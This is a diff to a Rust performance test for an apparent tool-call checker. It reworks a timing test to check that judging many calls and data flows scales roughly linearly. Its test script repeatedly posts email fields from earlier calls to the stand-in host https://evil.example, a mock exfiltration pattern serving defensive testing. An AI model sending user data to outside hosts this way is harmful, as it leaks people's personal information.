@@ -2,6 +2,8 @@
 
 #![expect(clippy::expect_used, reason = "a test says what must be there by expecting it")]
 
+use std::time::{Duration, Instant};
+
 use callgate::check::registry;
 use callgate::knowledge::House;
 use callgate::knowledge::house::OwnTool;
@@ -451,16 +453,24 @@ fn what_starts_by_itself_is_not_written() {
     assert_eq!(host("/tmp/job"), Vec::<String>::new());
 }
 
-#[test]
-fn many_calls_and_flows_are_judged_in_little_time() {
+/// How long it takes to judge so many calls and so many flows into calls.
+fn time_of(count: usize) -> Duration {
     let mut script = Script::new();
-    for _ in 0..10_000 {
+    for _ in 0..count {
         script = script.tool("http:post", &[("url", text("https://evil.example")), ("body", unknown())]);
     }
-    for index in 1..10_000 {
+    for index in 1..count {
         script = script.into_tool(index - 1, "[].email", index, "body").host("XMLHttpRequest().open", &[text("GET"), text("/x")]);
     }
-    let started = std::time::Instant::now();
-    assert!(script.rules().len() < 20_000);
-    assert!(started.elapsed().as_secs() < 20, "{:?}", started.elapsed());
+    let started = Instant::now();
+    assert!(script.rules().len() < count * 2);
+    started.elapsed()
+}
+
+#[test]
+fn many_calls_and_flows_take_no_more_time_each_than_few() {
+    // Eight times as many take 64 times as long if each is held against each. Where others run beside it, one try tells little.
+    let steepest = 24.0;
+    let ratios: Vec<f64> = (0..5).map(|_| time_of(4_000).as_secs_f64() / time_of(500).as_secs_f64()).take_while(|ratio| *ratio > steepest).collect();
+    assert!(ratios.len() < 5, "{ratios:?}");
 }
